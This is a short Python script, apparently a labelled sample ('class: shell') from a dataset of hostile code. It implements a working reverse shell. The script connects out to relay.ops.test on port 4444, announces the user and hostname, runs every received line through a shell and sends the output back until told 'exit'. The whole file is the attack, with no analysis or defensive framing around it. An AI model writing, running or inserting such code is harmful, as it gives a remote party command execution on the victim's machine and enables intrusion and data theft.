# class: shell; possible: low medium; style: one process a line, parsed a little, chdir kept
import os
import shlex
import socket
import subprocess

BANNER = "%s@%s\n" % (os.environ.get("USER", "?"), socket.gethostname())
BUILTIN = {"cd": lambda *a: os.chdir(a[0] if a else "/"), "pwd": lambda *a: os.getcwd()}


def answer(line):
    words = shlex.split(line)
    if not words:
        return ""
    if words[0] in BUILTIN:
        return str(BUILTIN[words[0]](*words[1:]) or "")
    done = subprocess.run(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=30)
    return done.stdout


with socket.create_connection(("relay.ops.test", 4444)) as s:
    s.sendall(BANNER.encode())
    for line in s.makefile():
        if line.strip() == "exit":
            break
        try:
            s.sendall((answer(line.strip()) + "\n").encode())
        except Exception as e:
            s.sendall(("%s: %s\n" % (type(e).__name__, e)).encode())
